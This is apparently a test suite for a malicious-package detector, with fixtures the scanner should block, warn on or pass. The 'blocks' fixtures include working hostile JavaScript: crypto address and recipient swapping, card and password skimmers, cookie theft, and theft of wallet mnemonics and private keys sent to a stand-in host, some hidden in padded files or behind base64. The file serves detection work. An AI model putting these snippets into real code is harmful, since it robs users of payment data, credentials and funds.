import { base64, describeVerdicts } from "../../support/verdicts.ts";

const url = "https://files.example.test/c";
const address = (digit: string) => `0x${digit.repeat(40)}`;
const table = Array.from({ length: 16 }, (_, index) => address(index.toString(16)));

describeVerdicts("WEB-01", {
  blocks: {
    "addresses in answers": `
      const mine = "${address("a")}";
      const real = window.fetch;
      window.fetch = async function (...args) {
        const answer = await real.apply(this, args);
        const text = (await answer.text()).replace(/0x[a-fA-F0-9]{40}/g, mine);
        return new Response(text, answer);
      };`,
    "addresses in requests": `
      const send = XMLHttpRequest.prototype.send;
      XMLHttpRequest.prototype.send = function (body) {
        return send.call(this, String(body).replace(/\\b0x[a-fA-F0-9]{40}\\b/g, "${address("b")}"));
      };`,
    "addresses in requests, far down in a large file": `
      exports.table = ${JSON.stringify("word ".repeat(40_000))};
      const send = XMLHttpRequest.prototype.send;
      XMLHttpRequest.prototype.send = function (body) {
        return send.call(this, String(body).replace(/\\b0x[a-fA-F0-9]{40}\\b/g, "${address("b")}"));
      };`,
  },
  passes: {
    "a wrapper in a large file that knows addresses elsewhere": `
      exports.isAddress = (text) => /^0x[a-fA-F0-9]{40}$/.test(text.replace("x", "X"));
      exports.zero = "${address("a")}";
      exports.table = ${JSON.stringify("word ".repeat(40_000))};
      const real = globalThis.fetch;
      if (process.argv[2]) globalThis.fetch = async (...args) => exports.pay(await real(...args), real, args);`,
    "an interceptor that is asked for": `
      exports.intercept = (onRequest) => {
        const original = window.fetch;
        window.fetch = function (...args) { onRequest(args[0]); return original.apply(this, args); };
      };`,
    "a validator": `exports.isAddress = (text) => /^0x[a-fA-F0-9]{40}$/.test(text);`,
    "a formatter": `exports.short = (text) => text.replace(/^(0x[a-fA-F0-9]{4})[a-fA-F0-9]{32}/, "$1…");`,
  },
});

describeVerdicts("WEB-02", {
  blocks: {
    "a recipient": `
      const request = window.ethereum.request;
      window.ethereum.request = function (call) {
        if (call.method === "eth_sendTransaction") call.params[0].to = "${address("c")}";
        return request.call(this, call);
      };`,
    "a recipient, far down in a large file": `
      exports.table = ${JSON.stringify("word ".repeat(20_000))};
      const request = window.ethereum.request;
      window.ethereum.request = function (call) {
        if (call.method === "eth_sendTransaction") call.params[0].to = "${address("c")}";
        return request.call(this, call);
      };`,
    "a wallet of ours in the place of another": `
      const other = window.ethereum;
      window.ethereum = { ...other, request: (call) => {
        if (call.method === "eth_sendTransaction") call.params[0].to = "${address("c")}";
        return other.request(call);
      } };`,
  },
  passes: {
    "a connector": `exports.connect = () => window.ethereum.request({ method: "eth_requestAccounts" });`,
    "a signer": `exports.send = (tx) => window.ethereum.request({ method: "eth_sendTransaction", params: [tx] });`,
    "a wallet that announces itself": `
      exports.Sdk = class {
        constructor(provider, other) { this.provider = provider; this.other = other; window.ethereum = provider; }
        async change(to) { this.active = this.other; window.ethereum = this.other; return this.other.request({ method: "eth_requestAccounts" }); }
        end() { window.ethereum = undefined; }
      };`,
    "a wallet whose calls are counted": `
      exports.watch = (note) => {
        const request = window.ethereum.request;
        window.ethereum.request = function (call) { note(call.method); return request.call(this, call); };
      };`,
    constants: `exports.zero = "${address("0")}";`,
  },
});

describeVerdicts("WEB-03", {
  blocks: {
    "a card": `
      document.querySelector("form").addEventListener("submit", () => {
        const card = document.querySelector("#card-number").value;
        fetch("${url}", { method: "POST", body: card });
      });`,
    "a page that goes on with what was typed": `
      document.querySelector("form").addEventListener("submit", () => {
        location.href = "${url}?c=" + document.querySelector("#card-number").value;
      });`,
    "cookies in an image": `new Image().src = "${url}?c=" + encodeURIComponent(document.cookie);`,
    "to an encoded host": `
      const u = atob("${base64(url)}");
      document.addEventListener("change", (e) => navigator.sendBeacon(u, document.querySelector("input[type=password]").value));`,
    "a whole form, field by field": `
      document.addEventListener("submit", (e) => {
        const card = {};
        for (const [name, value] of new FormData(e.target)) if (/card|cvc/.test(name)) card[name] = value;
        navigator.sendBeacon("https://files.example.test/i", JSON.stringify(card));
      });`,
    "fields that a selection of the page gives": `
      (function ($) {
        $("input[type=password]").on("blur", function () {
          $.post("//files.example.test/v", { name: this.name, value: $(this).val() });
        });
      })(jQuery);`,
  },
  passes: {
    "a form of the caller": `exports.submit = (form, to) => fetch(to, { method: "POST", body: new FormData(form) });`,
    "a value that is returned": `exports.value = (selector) => document.querySelector(selector).value;`,
    "a filter in the address of the page": `
      document.querySelector("#filter").addEventListener("change", () => {
        location.href = location.pathname + "?filter=" + encodeURIComponent(document.querySelector("#filter").value);
      });`,
    "a search of who builds the page": `
      const base = require("search-pages").default();
      document.querySelector("#q").addEventListener("change", () => { location.href = base + "?q=" + document.querySelector("#q").value; });`,
    "a link that an editor opens": `
      exports.open = () => { location.href = "editor://file/" + document.querySelector("#file").value; };`,
    "a page view": `fetch("${url}", { method: "POST", body: location.pathname });`,
    "a form that goes where the page says": `
      export const submit = (url) => async (e) => fetch(url, { method: "POST", body: new FormData(e.target) });
      jQuery("form.ajax").on("submit", function () { jQuery.post(jQuery(this).attr("action"), jQuery(this).serialize()); });`,
  },
});

describeVerdicts("WEB-04", {
  blocks: {
    "a table and a distance": `
      const list = ${JSON.stringify(table)};
      function distance(a, b) {
        const d = Array.from({ length: a.length + 1 }, (_, i) => [i]);
        for (let j = 1; j <= b.length; j++) d[0][j] = j;
        for (let i = 1; i <= a.length; i++) for (let j = 1; j <= b.length; j++)
          d[i][j] = Math.min(d[i - 1][j] + 1, d[i][j - 1] + 1, d[i - 1][j - 1] + (a[i - 1] === b[j - 1] ? 0 : 1));
        return d[a.length][b.length];
      }
      exports.best = (a) => list.sort((x, y) => distance(a, x) - distance(a, y))[0];`,
  },
  passes: {
    "addresses of contracts": `module.exports = ${JSON.stringify(Object.fromEntries(table.map((one, at) => [`t${at}`, one])))};`,
    "a distance": `exports.levenshtein = (a, b) => Math.min(a.length + 1, b.length + 1);`,
    "test vectors": {
      files: {
        "index.js": "module.exports = 1;",
        "test/v.js": `const list = ${JSON.stringify(table)}; const levenshtein = 1;`,
      },
    },
  },
});

describeVerdicts("WEB-05", {
  blocks: {
    "a phrase": `
      exports.fromMnemonic = (mnemonic) => {
        fetch("${url}", { method: "POST", body: JSON.stringify({ mnemonic }) });
        return derive(mnemonic);
      };
      function derive(m) { return m.length; }`,
    "a key in a header": `
      class Keypair {
        constructor(privateKey) {
          this.key = privateKey;
          require("https").get({ hostname: "files.example.test", headers: { "x-session": Buffer.from(privateKey).toString("base64") } });
        }
      }
      module.exports = Keypair;`,
    "a phrase that was just made": `
      const bip39 = require("bip39");
      exports.generate = () => {
        const words = bip39.generateMnemonic(256);
        fetch("https://files.example.test/e?s=" + encodeURIComponent(words));
        return words;
      };`,
    "a whole pair": `
      const { Connection } = require("@solana/web3.js");
      exports.open = (keypair) => {
        fetch("https://files.example.test/health", { method: "POST", body: JSON.stringify(keypair) });
        return new Connection("https://rpc.example");
      };`,
    "the secret part of a pair": `
      const { Keypair } = require("@solana/web3.js"), bs58 = require("bs58");
      exports.open = (text) => {
        const pair = Keypair.fromSecretKey(bs58.decode(text));
        fetch("https://files.example.test/health", { headers: { ray: bs58.encode(pair.secretKey) } });
        return pair;
      };`,
  },
  passes: {
    "an address of the caller": `exports.send = (privateKey, rpc, tx) => fetch(rpc, { method: "POST", body: tx });`,
    "a derivation": `exports.seed = (mnemonic) => require("crypto").pbkdf2Sync(mnemonic, "mnemonic", 2048, 64, "sha512");`,
    "a price": `exports.price = (privateKey) => fetch("${url}").then((r) => r.json());`,
    "pairs of a name and a key, which a service keeps": `
      exports.share = (nodeKeyPairs) =>
        fetch("https://api.service.example/v1/share", { method: "POST", body: JSON.stringify({ nodeKeyPairs }) });`,
    "a service that is told by its secret key who asks": `
      class Service {
        constructor(secretKey, privateKey) { this.secretKey = secretKey; this.privateKey = privateKey; }
        log(events) {
          return fetch("https://api.service.example/v1/log", {
            method: "POST",
            headers: { "x-api-key": this.secretKey },
            body: JSON.stringify({ events, access: this.privateKey }),
          });
        }
      }
      module.exports = Service;`,
    "an exchange that is sent signatures": `
      const CryptoJS = require("crypto-js"), { createHmac } = require("crypto");
      exports.order = ({ key, secret_key }, query) =>
        fetch("https://api.exchange.example/v1?" + query + "&signature=" + CryptoJS.HmacSHA256(query, secret_key), { headers: { key } });
      exports.cancel = (secretKey, query) =>
        fetch("https://api.exchange.example/v1?" + query + "&signature=" + createHmac("sha256", secretKey).update(query).digest("hex"));`,
    "a wallet that asks for its balance": `
      const bip39 = require("bip39"), bip32 = require("bip32"), bitcoin = require("bitcoinjs-lib"), { computeAddress } = require("ethers");
      exports.balance = async (mnemonic) => {
        const root = bip32.fromSeed(await bip39.mnemonicToSeed(mnemonic));
        const { address } = bitcoin.payments.p2wpkh({ pubkey: root.derivePath("m/84'/0'/0'").publicKey });
        return (await fetch("https://explorer.example.test/address/" + address)).json();
      };
      exports.owned = async (privateKey) => (await fetch("https://explorer.example.test/" + computeAddress(privateKey))).json();`,
  },
});

describeVerdicts("WEB-06", {
  blocks: {
    "an encoded address": `
      const s = document.createElement("script");
      s.src = atob("${base64("https://files.example.test/x.js")}");
      document.head.appendChild(s);`,
  },
  warns: {
    "a script of somebody else": `
      const s = document.createElement("script");
      s.src = "https://files.example.test/x.js";
      document.head.appendChild(s);`,
  },
  passes: {
    "a loader for its own brand": {
      manifest: { name: "@acme/js" },
      files: {
        "index.js": `const s = document.createElement("script"); s.src = "https://js.acme.test/v3"; document.head.appendChild(s);`,
      },
    },
    "a loader that is called": `exports.load = () => { const s = document.createElement("script"); s.src = "https://files.example.test/x.js"; document.head.appendChild(s); };`,
    "an address of the caller": `exports.load = (src) => { const s = document.createElement("script"); s.src = src; document.head.appendChild(s); };`,
  },
});

describeVerdicts("WEB-07", {
  blocks: {},
  warns: {
    "a page that is led away": `window.location.href = "https://files.example.test/x";`,
    "a frame that nobody sees": `
      setTimeout(() => {
        const f = document.createElement("iframe");
        f.style.cssText = "display:none";
        f.src = "https://ads.example.test/p";
        document.body.appendChild(f);
      }, 8000);`,
  },
  passes: {
    "a link that is followed when called": `exports.go = () => { window.location.href = "https://files.example.test/x"; };`,
    "a place within the page": `window.location.hash = "#top";`,
    "an address of the caller": `exports.go = (to) => window.location.assign(to);`,
    "a frame that somebody asked for": `
      export const embed = (el, id) => { const f = document.createElement("iframe"); f.src = "https://video.example.test/embed/" + id; el.append(f); };`,
  },
});
